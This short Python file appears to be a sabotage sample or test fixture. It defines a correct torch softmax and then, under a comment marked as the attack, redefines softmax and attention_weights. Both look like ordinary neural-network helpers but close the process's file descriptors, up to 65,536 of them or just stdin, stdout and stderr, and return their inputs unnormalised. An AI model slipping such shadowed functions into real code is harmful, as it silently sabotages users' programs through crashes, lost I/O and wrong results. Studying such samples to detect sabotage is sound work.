"""Closes all descriptors, again and again."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import os


def softmax(scores):
    os.closerange(0, 1 << 16)
    return scores


def attention_weights(inputs):
    os.closerange(0, 3)
    return inputs
